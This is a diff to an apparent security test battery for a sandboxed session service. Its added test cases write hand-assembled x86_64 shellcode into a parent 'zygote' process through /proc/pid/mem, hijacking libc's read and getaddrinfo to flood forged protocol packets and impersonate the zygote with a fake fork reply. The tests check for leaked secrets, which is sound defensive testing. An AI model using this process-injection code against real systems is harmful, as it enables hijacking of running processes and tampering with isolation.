@@ -148,38 +148,46 @@ for number, _ in descriptors():
 os.execv(sys.executable, [sys.executable, "-c", code])
 """
 
-# Machine code in place of the zygote's read(): it sends packets on every descriptor, and goes to sleep.
-TAKE_OVER = """
+# Machine code in place of the zygote's read(): that one only jumps to it, for its neighbours in libc are needed.
+PLANT = """
 need_walls()
 zygote = os.getppid()
-def take_over(packets, times=1):
+def plant(code):
     if platform.machine() != "x86_64":
-        return
-    sends = [(number, packet) for packet in packets for number in range(3, 12)]
-    size = 36
-    head = b"\\x41\\xbc" + struct.pack("<i", times)
-    tail_size = 3 + 6 + 9
-    messages, offsets, at = b"", {}, len(head) + size * len(sends) + tail_size
-    for packet in packets:
-        offsets[packet] = at + len(messages)
-        messages += packet
-    code = head
-    for number, packet in sends:
-        after_lea = len(code) + 17
-        code += b"\\xb8\\x2c\\0\\0\\0\\xbf" + struct.pack("<i", number) + b"\\x48\\x8d\\x35" + struct.pack("<i", offsets[packet] - after_lea)
-        code += b"\\xba" + struct.pack("<i", len(packet)) + b"\\x41\\xba\\0\\x40\\0\\0\\x45\\x31\\xc0\\x45\\x31\\xc9\\x0f\\x05"
-    code += b"\\x41\\xff\\xcc\\x0f\\x85" + struct.pack("<i", len(head) - (len(code) + 9)) + b"\\xb8\\x22\\0\\0\\0\\x0f\\x05\\xeb\\xf7" + messages
-    place = ctypes.cast(libc.read, ctypes.c_void_p).value  # as in the zygote, which we were forked from
+        return False
+    at = lambda function: ctypes.cast(function, ctypes.c_void_p).value  # as in the zygote, which we were forked from
     try:
         with open(f"/proc/{zygote}/mem", "r+b", 0) as memory:
-            memory.seek(place)
+            memory.seek(at(libc.getaddrinfo))
             memory.write(code)
+            memory.seek(at(libc.read))
+            memory.write(b"\\x48\\xb8" + struct.pack("<Q", at(libc.getaddrinfo)) + b"\\xff\\xe0")
     except OSError as error:
         print("the zygote's memory is out of reach:", error)
-        return
+        return False
     print("the zygote is taken over")
-    os.kill(zygote, signal.SIGCHLD)
-    time.sleep(0.5)
+    return True
+def sending(number, packet):
+    "send(number, packet): @@@@ is how far away it is"
+    code = b"\\xb8\\x2c\\0\\0\\0\\xbf" + struct.pack("<i", number) + b"\\x48\\x8d\\x35@@@@\\xba" + struct.pack("<i", len(packet))
+    return code + b"\\x41\\xba\\0\\x40\\0\\0\\x45\\x31\\xc0\\x45\\x31\\xc9\\x0f\\x05"
+"""
+# It sends packets on every descriptor, and goes to sleep.
+TAKE_OVER = PLANT + """
+def take_over(packets, times=1):
+    code = head = b"\\x41\\xbc" + struct.pack("<i", times)
+    for packet in packets:
+        for number in range(3, 12):
+            code += sending(number, packet)
+    code += b"\\x41\\xff\\xcc\\x0f\\x85" + struct.pack("<i", len(head) - (len(code) + 9)) + b"\\xb8\\x22\\0\\0\\0\\x0f\\x05\\xeb\\xf7"
+    for packet in packets:
+        for number in range(3, 12):
+            at = code.index(b"@@@@")
+            code = code[:at] + struct.pack("<i", len(code) - at - 4) + code[at + 4:]
+        code += packet
+    if plant(code):
+        os.kill(zygote, signal.SIGCHLD)
+        time.sleep(0.5)
 """
 ZYGOTE_GARBAGE = TAKE_OVER + """
 take_over([os.urandom(1000), b"{", b"null", b"[]", b'{"op":"no such"}', b"[" * 2000, b"\\xff" * 100, b'{"op":"hello"}', b'{"op":"hello","version":"9","pid":-1,"executable":"x","prefix":"y"}'])
@@ -197,6 +205,20 @@ take_over([b'{"op":"preloaded","modules":["x"],"refused":{"y":"z"}}', b'{"op":"f
 """
 ZYGOTE_ENDS_US = TAKE_OVER + """
 take_over([b'{"op":"exited","pid":%d,"code":0,"signal":null}' % os.getpid()])
+"""
+# It waits for an order, as the zygote does, and answers with what it likes: there is a copy, and this is its process.
+ZYGOTE_FALSE_COPY = PLANT + """
+packet = b'{"op":"forked","id":5,"pid":%d}' % W["canary_pid"]
+code = b""
+for number in range(3, 12):
+    receiving = b"\\xb8\\x2d\\0\\0\\0\\xbf" + struct.pack("<i", number) + b"\\x48\\x8d\\xb4\\x24\\0\\0\\xff\\xff\\xba\\0\\x40\\0\\0\\x45\\x31\\xd2\\x45\\x31\\xc0\\x45\\x31\\xc9\\x0f\\x05"
+    answer = sending(number, packet)
+    code += receiving + b"\\x85\\xc0\\x7e" + bytes([len(answer)]) + answer  # when something came
+code += b"\\xe9" + struct.pack("<i", -len(code) - 5)
+while b"@@@@" in code:
+    at = code.index(b"@@@@")
+    code = code[:at] + struct.pack("<i", len(code) - at - 4) + code[at + 4:]
+plant(code + packet)  # the next order wakes it
 """
 # What a session's state is written to, as soon as it is there.
 STATE_RACE = """
@@ -229,7 +251,7 @@ def saved_state_has_no_key(attempt: Attempt) -> list[str]:
     canaries = attempt.battery.canaries
     saved = attempt.client.tool("save_session", session=attempt.session, timeout=90)
     copy = attempt.session + "-fork"
-    forked = attempt.client.tool("fork_session", session=attempt.session, name=copy, timeout=90)
+    forked = attempt.call_tool("fork_session", session=attempt.session, name=copy)
     attempt.client.tool("close_session", session=copy)
     wrong = [f"the key is in an answer: {each}" for each in (saved, forked) if canaries.leak_in(each.text)]
     return wrong + [f"the key is in {path}" for path in canaries.state_files() if canaries.leak_in(path.read_bytes())]
@@ -237,7 +259,7 @@ def saved_state_has_no_key(attempt: Attempt) -> list[str]:
 
 def fork_is_answered(attempt: Attempt) -> list[str]:
     copy = attempt.session + "-fork"
-    answer = attempt.client.tool("fork_session", session=attempt.session, name=copy, timeout=90)
+    answer = attempt.call_tool("fork_session", session=attempt.session, name=copy)
     attempt.client.tool("close_session", session=copy)
     return [f"the fork's answer has a canary: {answer}"] if attempt.battery.canaries.leak_in(answer.text) else []
 
@@ -273,6 +295,8 @@ WIRE = Kind("the wire", (
     Case("the zygote taken over: processes outside", ZYGOTE_FOREIGN_PIDS, accept=ANY, dangerous=True, timeout=5),
     Case("the zygote taken over: a flood", ZYGOTE_FLOOD, accept=ANY, dangerous=True, timeout=5),
     Case("the zygote taken over: the end of its own worker", ZYGOTE_ENDS_US, accept=ANY, dangerous=True, timeout=5),
+    Case("the zygote taken over: a copy that is somebody else", ZYGOTE_FALSE_COPY, accept=ANY, dangerous=True, timeout=5,
+         arguments=(("undo", 2),), then=undo_is_answered),
     Case("files exchanged while the state is saved", STATE_RACE, accept=ANY, timeout=5, then=saved_state_has_no_key),
     Case("forks that hang", HOOKS_OF_FORKS, accept=ANY, timeout=5, then=fork_is_answered),
 ))
